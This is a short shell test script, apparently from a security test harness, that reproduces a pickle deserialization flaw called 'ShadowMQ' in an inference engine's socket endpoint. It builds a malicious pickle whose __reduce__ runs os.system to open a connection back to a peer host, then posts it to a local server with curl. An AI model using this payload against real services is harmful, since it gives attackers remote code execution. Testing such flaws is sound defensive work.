# ShadowMQ: an inference engine unpickles what arrives on its socket; the
# payload starts a Python child that phones home.
. "$LIB/common.sh"
start_server
payload=$("$PY" -c '
import os, pickle, base64
class P:
    def __reduce__(self):
        return (os.system, ("python3 -c \"import socket; socket.create_connection((\x27'"$PEER"'\x27, 9000), 5).close()\"",))
import sys; sys.stdout.buffer.write(pickle.dumps(P()))' | base64 -w0)
echo "$payload" | base64 -d > "$WORK/payload.bin"
curl -s --max-time 30 --data-binary "@$WORK/payload.bin" "http://127.0.0.1:$SERVER_PORT/load" > /dev/null
stop_server
